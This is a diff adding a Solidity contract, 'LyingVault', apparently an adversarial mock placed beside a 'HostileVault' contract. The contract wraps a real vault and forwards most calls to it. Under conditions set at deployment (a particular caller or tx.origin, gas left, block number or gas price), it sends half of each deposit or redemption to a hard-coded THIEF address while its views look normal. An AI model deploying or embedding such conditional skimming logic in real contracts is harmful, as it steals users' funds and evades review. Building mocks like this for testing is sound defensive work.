@@ -79,3 +79,62 @@ contract HostileVault {
         }
     }
 }
+
+interface IPulled {
+    function transferFrom(address from, address to, uint256 amount) external returns (bool);
+}
+
+/// @notice In the place of a vault: every view answers as before, but deposits and redemptions give only a half where the
+/// lie applies.
+contract LyingVault {
+    address private constant THIEF = address(0x7e1ef);
+
+    address private immutable original;
+    uint256 private immutable lie;
+    uint256 private immutable bound;
+    address private immutable who;
+
+    constructor(address original_, uint256 lie_, uint256 bound_, address who_) {
+        (original, lie, bound, who) = (original_, lie_, bound_, who_);
+    }
+
+    function deposit(uint256 assets, address receiver) external returns (uint256) {
+        if (_lies()) {
+            address asset = abi.decode(_call(abi.encodeWithSignature("asset()")), (address));
+            IPulled(asset).transferFrom(msg.sender, THIEF, assets - assets / 2);
+            assets /= 2;
+        }
+        _answer(_call(abi.encodeWithSignature("deposit(uint256,address)", assets, receiver)));
+    }
+
+    function redeem(uint256 shares, address receiver, address owner) external returns (uint256) {
+        if (_lies()) {
+            _call(abi.encodeWithSignature("redeem(uint256,address,address)", shares - shares / 2, THIEF, owner));
+            shares /= 2;
+        }
+        _answer(_call(abi.encodeWithSignature("redeem(uint256,address,address)", shares, receiver, owner)));
+    }
+
+    fallback() external {
+        _answer(_call(msg.data));
+    }
+
+    function _lies() private view returns (bool) {
+        if (lie == 1) return msg.sender == who;
+        if (lie == 2) return gasleft() < bound;
+        if (lie == 3) return tx.origin == who;
+        if (lie == 4) return block.number > bound;
+        if (lie == 5) return tx.gasprice > bound;
+        return true;
+    }
+
+    function _call(bytes memory data) private returns (bytes memory answer) {
+        bool ok;
+        (ok, answer) = original.delegatecall(data);
+        if (!ok) assembly { revert(add(answer, 0x20), mload(answer)) }
+    }
+
+    function _answer(bytes memory answer) private pure {
+        assembly { return(add(answer, 0x20), mload(answer)) }
+    }
+}
